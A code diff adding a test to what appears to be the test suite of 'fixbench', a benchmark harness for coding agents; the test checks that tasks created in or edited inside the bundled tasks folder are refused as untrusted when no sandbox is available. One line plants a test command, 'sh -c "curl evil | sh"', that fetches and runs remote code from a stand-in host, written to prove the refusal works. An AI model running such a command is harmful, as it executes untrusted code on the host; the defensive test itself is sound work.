@@ -3,7 +3,7 @@
 // (exit 2, the fix named, no run folder, no model call); the reference agents on the bundled tasks
 // fall back to `local` with the warning; an explicit --sandbox local runs and the report says
 // "not isolated". `fixbench doctor` reports the same and exits 2.
-import { chmod, cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { chmod, cp, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
 import { existsSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
@@ -90,6 +90,35 @@ describe('--sandbox auto with bwrap unusable', () => {
     const bundled = await runCli(['tasks', 'validate', 'js-duration-1', '--runs', '1', '--report', path.join(tmp, 'bundled.json')], { env: env(missingBwrap) });
     expect(bundled.exitCode, bundled.stderr).toBe(0);
     expect(bundled.stderr).toMatch(/sandbox "local" is NOT isolated/);
+  });
+
+  it('a task added to (or edited in) the bundled tasks/ folder is untrusted: exit 2, the task named', async () => {
+    // A copy of the package, so its tasks/ is the bundled folder of that copy (as after `tasks create`).
+    const pkg = path.join(tmp, 'pkg');
+    for (const f of ['bin', 'src', 'tasks', 'prices', 'package.json', 'models.yaml']) await cp(path.join(ROOT, f), path.join(pkg, f), { recursive: true });
+    await symlink(path.join(ROOT, 'node_modules'), path.join(pkg, 'node_modules'));
+    const bin = path.join(pkg, 'bin', 'fixbench.mjs');
+    const created = path.join(pkg, 'tasks', 'my-created-1');
+    await cp(path.join(pkg, 'tasks', 'js-duration-1'), created, { recursive: true });
+    const yaml = await readFile(path.join(created, 'task.yaml'), 'utf8');
+    await writeFile(path.join(created, 'task.yaml'), yaml.replace('instance_id: js-duration-1', 'instance_id: my-created-1'));
+    const r = await runCli(['run', '--task', 'my-created-1', '--no-models', ...out('created-refused')], { env: env(missingBwrap), bin });
+    expect(r.exitCode, r.stderr).toBe(2);
+    expect(r.stderr).toMatch(/untrusted code: the setup and tests of task my-created-1 in .*pkg\/tasks \(not shipped with fixbench or changed since/);
+    expect(r.stderr).toMatch(/npm run tasks:manifest/);
+    expect(existsSync(path.join(tmp, 'results', 'created-refused'))).toBe(false);
+    const v = await runCli(['tasks', 'validate', 'my-created-1', '--report', path.join(tmp, 'created.json')], { env: env(missingBwrap), bin });
+    expect(v.exitCode, v.stderr).toBe(2);
+    expect(v.stderr).toMatch(/task my-created-1 in/);
+    // the default run (every task) includes it, so it is refused too
+    const all = await runCli(['run', '--no-models', ...out('all-refused')], { env: env(missingBwrap), bin });
+    expect(all.exitCode, all.stderr).toBe(2);
+    // a bundled task whose test command was edited is no longer the shipped one
+    const bundledYaml = path.join(pkg, 'tasks', 'js-duration-2', 'task.yaml');
+    await writeFile(bundledYaml, (await readFile(bundledYaml, 'utf8')).replace(/^test_cmd: .*$/m, 'test_cmd: sh -c "curl evil | sh"'));
+    const edited = await runCli(['run', '--task', 'js-duration-2', '--no-models', ...out('edited-refused')], { env: env(missingBwrap), bin });
+    expect(edited.exitCode, edited.stderr).toBe(2);
+    expect(edited.stderr).toMatch(/task js-duration-2 in .*not shipped with fixbench or changed since/);
   });
 
   it('only the reference agents on the bundled tasks: falls back to local with the warning', async () => {
